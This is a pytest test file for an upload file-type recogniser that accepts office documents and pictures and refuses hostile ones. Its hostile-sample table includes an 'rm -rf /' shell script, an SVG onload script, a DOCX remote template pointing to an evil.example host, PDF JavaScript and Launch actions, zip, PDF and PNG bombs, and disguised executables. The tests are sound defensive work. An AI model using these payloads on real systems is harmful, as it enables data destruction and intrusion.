import struct
import time
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from papers.samples import CERTIFICATE, SUBMITTAL
from thidua.documents import draw_docx, draw_pdf
from thidua.documents.recognise import FileType, Reason, Refused, recognise
from thidua.documents.recognise.kinds import SENTENCES
from thidua.documents.spreadsheet import SheetColumn, xlsx_bytes

PDF = draw_pdf(CERTIFICATE)
DOCX = draw_docx(SUBMITTAL)
XLSX = xlsx_bytes((SheetColumn("Tên"),), [("An",)], name="A")


def picture(form: str) -> bytes:
    target = BytesIO()
    Image.new("RGB", (30, 20), "white").save(target, form)
    return target.getvalue()


def with_parts(content: bytes, added: dict[str, bytes]) -> bytes:
    target = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(target, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, part in added.items():
            new.writestr(name, part)
    return target.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as new:
        for name, part in parts.items():
            new.writestr(name, part)
    return target.getvalue()


def small_pdf(objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + objects + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed_objects(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    head = f"5 0 obj << /Type /ObjStm /Filter /FlateDecode /Length {len(packed)} >> stream\n"
    return head.encode() + packed + b"\nendstream endobj"


def chunk(name: bytes, content: bytes) -> bytes:
    checked = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + checked


def huge_png(side: int) -> bytes:
    """A head that announces more pixels than there are."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def lying_about_size(content: bytes, name: str) -> bytes:
    """The directory says that a part unpacks to ten bytes."""
    with ZipFile(BytesIO(content)) as parts:
        real = struct.pack("<I", parts.getinfo(name).file_size)
    return content.replace(real, struct.pack("<I", 10))


CONTENT_TYPES = ZipFile(BytesIO(DOCX)).read("[Content_Types].xml")
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 300
REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (PDF, "Tờ trình.pdf", FileType.PDF),
        (PDF, "SCAN.PDF", FileType.PDF),
        (PDF, "không có phần mở rộng", FileType.PDF),
        (b"\xef\xbb\xbf\r\n" + PDF + b"\0" * 5000, "máy quét.pdf", FileType.PDF),
        (DOCX, "a.docx", FileType.DOCX),
        (XLSX, "a.xlsx", FileType.XLSX),
        (picture("JPEG"), "ảnh.jpg", FileType.JPEG),
        (picture("JPEG"), "ảnh.JPEG", FileType.JPEG),
        (picture("PNG"), "a.png", FileType.PNG),
        (picture("WEBP"), "a.webp", FileType.WEBP),
        (HEIC, "IMG_0001.HEIC", FileType.HEIC),
    ],
)
def test_what_is_taken(content, name, kind):
    assert recognise(content, name) is kind


HOSTILE = {
    "empty": (b"", "a.pdf", Reason.EMPTY),
    "program": (b"MZ\x90\x00" + b"\x00" * 300, "a.pdf", Reason.PROGRAM),
    "program by name": (PDF, "bao-cao.pdf.exe", Reason.PROGRAM),
    "program by name with a dot after it": (PDF, "bao-cao.exe. ", Reason.PROGRAM),
    "linux program": (b"\x7fELF\x02\x01\x01" + b"\x00" * 300, "a.png", Reason.PROGRAM),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "a.pdf", Reason.PROGRAM),
    "page with a script": (b"\xef\xbb\xbf <!DOCTYPE html><script>", "a.png", Reason.PROGRAM),
    "drawing with a script": (b"<svg onload='alert(1)'/>", "a.png", Reason.PROGRAM),
    "zip": (zipped({"a.exe": b"MZ"}), "a.docx", Reason.ARCHIVE),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 300, "a.rar", Reason.ARCHIVE),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "a.doc", Reason.OLD_OFFICE),
    "text": (b"Xin ch\xc3\xa0o", "a.txt", Reason.UNKNOWN),
    "open document": (zipped({"mimetype": b"application/vnd.oasis"}), "a.odt", Reason.UNKNOWN),
    "macro in word": (with_parts(DOCX, {"word/vbaProject.bin": b"x"}), "a.docx", Reason.MACROS),
    "macro by type": (
        with_parts(DOCX, {"[Content_Types].xml": CONTENT_TYPES + b"<!-- macroEnabled -->"}),
        "a.docx",
        Reason.MACROS,
    ),
    "macro by name": (DOCX, "a.docm", Reason.MACROS),
    "old macro sheet": (with_parts(XLSX, {"xl/macrosheets/s.xml": b"x"}), "a.xlsx", Reason.MACROS),
    "embedded object": (
        with_parts(DOCX, {"word/embeddings/oleObject1.bin": b"x"}),
        "a.docx",
        Reason.MACROS,
    ),
    "embedded program": (with_parts(DOCX, {"word/embeddings/a.exe": b"MZ"}), "a.docx", Reason.MACROS),
    "remote template": (
        with_parts(DOCX, {"word/_rels/settings.xml.rels": REMOTE}),
        "a.docx",
        Reason.MACROS,
    ),
    "zip bomb": (with_parts(DOCX, {"word/b.xml": b"\0" * 60_000_000}), "a.docx", Reason.BOMB),
    "too many parts": (
        with_parts(DOCX, {f"word/{n}.xml": b"" for n in range(5001)}),
        "a.docx",
        Reason.BOMB,
    ),
    "cut word": (DOCX[: len(DOCX) // 2], "a.docx", Reason.DAMAGED),
    "pdf with a script": (
        small_pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert) >> >> endobj"),
        "a.pdf",
        Reason.ACTIVE,
    ),
    "pdf with a hidden name": (small_pdf(b"1 0 obj << /J#53 (x) >> endobj"), "a.pdf", Reason.ACTIVE),
    "pdf with a packed script": (
        small_pdf(packed_objects(b"1 0 << /S /JavaScript >>")),
        "a.pdf",
        Reason.ACTIVE,
    ),
    "pdf that starts a program": (small_pdf(b"1 0 obj << /S /Launch >> endobj"), "a.pdf", Reason.ACTIVE),
    "pdf with a file in it": (
        small_pdf(b"1 0 obj << /Type /EmbeddedFile >> endobj"),
        "a.pdf",
        Reason.ACTIVE,
    ),
    "pdf with a script after a false stream": (
        small_pdf(b"(stream 1 0 obj << /JS (x) >> endstream)"),
        "a.pdf",
        Reason.ACTIVE,
    ),
    "pdf full of codes": (small_pdf(b"#41" * 200_000), "a.pdf", Reason.BOMB),
    "pdf bomb": (small_pdf(packed_objects(b"\0" * 60_000_000)), "a.pdf", Reason.BOMB),
    "pdf with password": (small_pdf(b"<< /Encrypt 5 0 R >>"), "a.pdf", Reason.PROTECTED),
    "cut pdf": (PDF[: len(PDF) // 2], "a.pdf", Reason.DAMAGED),
    "cut picture": (picture("PNG")[:40], "a.png", Reason.DAMAGED),
    "picture bomb": (huge_png(60_000), "a.png", Reason.BOMB),
    "large picture": (huge_png(10_000), "a.png", Reason.BOMB),
    "word called pdf": (DOCX, "a.pdf", Reason.MISNAMED),
    "picture called word": (picture("PNG"), "a.docx", Reason.MISNAMED),
}


@pytest.mark.parametrize(("content", "name", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_what_is_refused(content, name, reason):
    assert recognise(content, name).reason is reason


def test_a_bomb_that_lies_about_its_size_is_not_unpacked():
    bomb = lying_about_size(with_parts(DOCX, {"word/b.xml": b"\0" * 60_000_000}), "word/b.xml")
    assert recognise(bomb, "a.docx").reason is Reason.DAMAGED


def test_a_word_file_with_a_password_flag():
    content = bytearray(DOCX)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark) + offset
        content[at] |= 1
    assert recognise(bytes(content), "a.docx").reason is Reason.PROTECTED


def test_the_limit_of_size_is_the_callers():
    assert recognise(PDF, "a.pdf", most_bytes=len(PDF)) is FileType.PDF
    assert recognise(PDF, "a.pdf", most_bytes=len(PDF) - 1).reason is Reason.TOO_LARGE


@given(
    base=st.sampled_from([PDF, DOCX, XLSX, picture("PNG"), picture("WEBP"), HEIC]),
    place=st.floats(0, 1),
    other=st.binary(max_size=40),
    cut=st.floats(0.05, 1),
)
@settings(max_examples=60, deadline=None)
def test_a_spoilt_file_is_judged_and_never_raises(base, place, other, cut):
    at = int(len(base) * place)
    spoilt = (base[:at] + other + base[at + len(other) :])[: int(len(base) * cut)]
    assert isinstance(recognise(spoilt, "a"), FileType | Refused)


@pytest.mark.parametrize(
    "repeated",
    [b"/ObjStm >>stream\n", b">>stream\n", b"stream", b"/JS#", b"/ObjStm", b">>stream endstream "],
)
def test_a_pdf_made_to_be_slow_is_judged_quickly(repeated):
    content = small_pdf(repeated * (10_000_000 // len(repeated)))
    start = time.perf_counter()
    recognise(content, "a.pdf")
    assert time.perf_counter() - start < 5


def test_relations_made_to_be_slow_are_judged_quickly():
    slow = b"<Relationship " + b"attachedTemplate " * 300_000
    start = time.perf_counter()
    recognise(with_parts(DOCX, {"word/_rels/settings.xml.rels": slow}), "a.docx")
    assert time.perf_counter() - start < 5


def test_every_refusal_says_what_to_do_in_both_languages():
    assert set(SENTENCES) == set(Reason)
    assert [reason for reason, said in SENTENCES.items() if "Hãy" not in said.vi] == []
    assert [reason for reason, said in SENTENCES.items() if not said.en.endswith(".")] == []


def test_kinds_know_their_media_type():
    assert FileType.PDF.media_type == "application/pdf"
    assert FileType.HEIC.is_picture
    assert not FileType.DOCX.is_picture
